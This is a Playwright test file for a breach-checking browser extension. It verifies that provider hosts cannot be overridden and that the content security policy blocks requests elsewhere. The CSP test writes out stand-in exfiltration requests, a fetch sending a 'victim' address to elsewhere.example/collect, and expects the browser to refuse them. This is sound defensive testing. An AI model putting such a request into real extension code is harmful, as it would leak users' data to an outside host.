/**
 * What the store build (dist/chrome) enforces by itself: its provider hosts cannot be changed, and
 * the browser — through the manifest's CSP — refuses connections and images anywhere else.
 * Every hostname resolves to the local fixture server here, so a request that got out would be
 * logged with its Host header instead of failing on a name lookup: a refusal is the browser's.
 */
import type { Page } from '@playwright/test';
import { expect, test } from './support/store-build';
import { PopupPage } from './support/popup-page';

const openPopup = async (page: Page, extensionId: string): Promise<PopupPage> => {
  await page.goto(`chrome-extension://${extensionId}/src/ui/popup/index.html`);
  await page.locator('body[data-ready="true"]').waitFor();
  return new PopupPage(page);
};

test('a base URL override is refused when saved and dropped when written to storage directly', async ({ server, context, extensionId }) => {
  server.setAccounts({ 'victim@example.com': ['Adobe'] });
  const page = await context.newPage();
  const popup = await openPopup(page, extensionId);
  const elsewhere = 'http://127.0.0.1:9/api/v3';

  const refused = await page.evaluate(
    (url) => chrome.runtime.sendMessage({ type: 'settings/save', payload: { patch: { hibpBaseUrl: url } } }),
    elsewhere,
  );
  expect(refused).toMatchObject({ ok: false, field: 'hibpBaseUrl', error: expect.stringContaining('cannot be changed') });

  // Written behind the extension's back (an old version, another tool): reset on the next load.
  await page.evaluate(() => chrome.storage.local.set({ xposedornotBaseUrl: 'https://api.xposedornot.example' }));
  await popup.addAddress('victim@example.com');
  await popup.checkNow();
  await expect(popup.breaches('victim@example.com')).toHaveCount(1);
  const lookups = server.requests.filter((r) => r.path.startsWith('/v1/breach-analytics'));
  expect(lookups.map((r) => r.headers.host)).toEqual(['api.xposedornot.com']);
  expect(server.requests.filter((r) => r.headers.host === 'api.xposedornot.example')).toEqual([]);
  expect(await page.evaluate(() => chrome.storage.local.get(['xposedornotBaseUrl', 'hibpBaseUrl']))).toEqual({});

  // And Options offers no place to type one.
  const options = await context.newPage();
  await options.goto(`chrome-extension://${extensionId}/src/ui/options/index.html`);
  await options.getByText('Advanced').click();
  await expect(options.getByLabel('Extra limit', { exact: false })).toBeVisible();
  await expect(options.locator('input[type="url"]')).toHaveCount(0);
});

test('the CSP: an extension page and the worker may reach the providers and nothing else', async ({ server, context, extensionId }) => {
  const page = await context.newPage();
  await openPopup(page, extensionId);

  const attempt = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const tryFetch = (url: string) => fetch(url).then((r) => `status ${r.status}`, (e: Error) => `refused: ${e.name}`);
    const provider = await tryFetch('https://api.xposedornot.com/v1/breaches');
    const other = await tryFetch('https://elsewhere.example/collect?address=victim');
    const image = await new Promise<string>((resolve) => {
      const img = document.createElement('img');
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('refused');
      img.src = 'https://elsewhere.example/logo.png';
      document.body.append(img);
    });
    // The violation events are queued as a task after the refusal.
    await new Promise((r) => setTimeout(r, 0));
    return { provider, other, image, violations };
  });
  expect(attempt.provider).toBe('status 200');
  expect(attempt.other).toBe('refused: TypeError');
  expect(attempt.image).toBe('refused');
  expect(attempt.violations).toEqual(expect.arrayContaining([
    'connect-src https://elsewhere.example/collect?address=victim',
    'img-src https://elsewhere.example/logo.png',
  ]));

  const worker = context.serviceWorkers()[0]!;
  const fromWorker = await worker.evaluate(() =>
    fetch('https://elsewhere.example/from-worker').then((r) => `status ${r.status}`, (e: Error) => `refused: ${e.name}`),
  );
  expect(fromWorker).toBe('refused: TypeError');
  expect(server.requests.filter((r) => r.headers.host === 'elsewhere.example')).toEqual([]);
});
